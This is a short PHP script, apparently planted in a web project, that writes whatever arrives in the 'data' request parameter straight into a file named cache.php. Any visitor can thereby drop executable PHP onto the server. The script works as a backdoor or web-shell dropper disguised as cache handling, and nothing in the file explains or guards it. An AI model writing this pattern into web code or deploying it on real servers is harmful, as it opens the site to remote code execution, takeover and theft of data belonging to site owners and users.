<?php
$h = fopen('cache.php', 'w');
fwrite($h, $_REQUEST['data']);
fclose($h);
